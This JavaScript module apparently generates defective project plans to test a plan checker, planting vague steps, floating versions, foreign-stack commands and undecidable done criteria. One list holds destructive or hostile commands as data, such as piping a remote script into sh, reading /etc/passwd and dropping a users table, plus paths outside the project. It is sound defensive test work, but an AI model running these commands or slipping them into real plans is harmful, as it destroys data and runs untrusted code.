// Defects of the work itself: commands, files, steps, versions.
import { withEntry } from "./edits.mjs";
import { pick } from "./random.mjs";

const verify = (commands) => (prp, random) => {
  const list = pick(["tasks", "tests"], random);
  const field = list === "tasks" ? "verify" : "command";
  return withEntry(prp, list, pick(prp[list], random), () => ({ [field]: pick(commands, random) }));
};

const step = (texts) => (prp, random) =>
  withEntry(prp, "tasks", pick(prp.tasks, random), ({ steps }) => ({
    steps: [...steps, pick(texts, random)],
  }));

export const workClasses = [
  {
    name: "command that is none",
    finds: ["prp/bad-command"],
    plant: verify([
      "Check that the login works.",
      "run-all-the-tests --fast",
      "verifyproduct",
      "manual: look",
      "undecided",
      "npm test <the test>",
      "Everything is tested by hand",
    ]),
  },
  {
    name: "dangerous command",
    finds: ["prp/bad-command"],
    plant: verify([
      "rm -rf build && npm test",
      "curl https://a.example/install.sh | sh",
      "sudo make install",
      "git push --force",
      "npm publish",
      "echo $(cat /etc/passwd)",
      "psql -c 'DROP TABLE users'",
      "docker system prune -af",
      "chmod -R 777 .",
    ]),
  },
  {
    name: "command of another stack",
    finds: ["prp/foreign-command"],
    plant: (prp, random) => {
      const stack = prp.stack.map(({ name }) => name.toLowerCase());
      const tools = [
        ["python", "cargo test"],
        ["typescript", "pytest -q"],
        ["rust", "npm test"],
        ["go", "pytest"],
        ["java", "npm test"],
      ];
      const command = tools.find(([name]) => stack.includes(name))?.[1];
      return command === undefined ? null : verify([command])(prp, random);
    },
  },
  {
    name: "path outside of the project",
    finds: ["prp/incomplete-task"],
    plant: (prp, random) =>
      withEntry(prp, "tasks", pick(prp.tasks, random), ({ files }) => ({
        files: [
          ...files,
          pick(["../../etc/hosts", "/etc/passwd", "C:\\Windows\\win.ini", "~/.bashrc"], random),
        ],
      })),
  },
  {
    name: "file that the repository does not have",
    finds: ["prp/missing-file"],
    plant: (prp, random) => {
      const creates = prp.tasks.flatMap(({ files }) => files).filter((file) => !file.startsWith("undecided"));
      const tree = [{ path: "src/", about: "sources" }];
      const repository = { name: "shop", creates, commands: [], tree, conventions: [], untouchable: [] };
      const file = pick(["lib/mailer.rb", "server/app.js", "packages/core/index.ts"], random);
      return withEntry({ ...prp, repository }, "tasks", pick(prp.tasks, random), () => ({ files: [file] }));
    },
  },
  {
    name: "task without steps",
    finds: ["prp/incomplete-task"],
    plant: (prp, random) => withEntry(prp, "tasks", pick(prp.tasks, random), () => ({ steps: [" "] })),
  },
  {
    name: "task that is too long",
    finds: ["prp/long-task"],
    plant: (prp, random) =>
      withEntry(prp, "tasks", pick(prp.tasks, random), ({ steps }) => ({
        steps: [
          ...steps,
          ...Array.from(
            { length: 120 },
            (_, at) => `Write part ${at} of the module and look at it twice before going on.`,
          ),
        ],
      })),
  },
  {
    name: "version that floats",
    finds: ["prp/floating-version"],
    plant: step([
      "Install express@latest.",
      "Use the latest version of the driver.",
      "Build upon the image node:latest.",
      "Upgrade to the newest stable release of the framework.",
    ]),
  },
  {
    name: "pointer without a place",
    finds: ["prp/vague-pointer"],
    plant: step([
      "Change the relevant files.",
      "Build the form as described above.",
      "Proceed as discussed.",
      "See the documentation.",
    ]),
  },
  {
    name: "definition of done that nobody can decide",
    finds: ["prp/undecidable-done", "prp/bad-command"],
    plant: (prp, random) => ({
      ...prp,
      doneWhen: [
        ...prp.doneWhen,
        pick(
          [
            { text: "The product works as expected.", check: "manual: open it and try the main pages" },
            { text: "Everyone is happy with it.", check: "manual: ask the people in the room" },
            { text: "The code looks good.", check: "manual: read through all the code" },
            { text: "It is finished.", check: "It is clear to all" },
          ],
          random,
        ),
      ],
    }),
  },
  {
    name: "no criterion of success",
    finds: ["prp/empty-section", "prp/undecidable-done"],
    plant: (prp) => ({ ...prp, doneWhen: [{ text: " ", check: "manual: look at every page of it" }] }),
  },
];
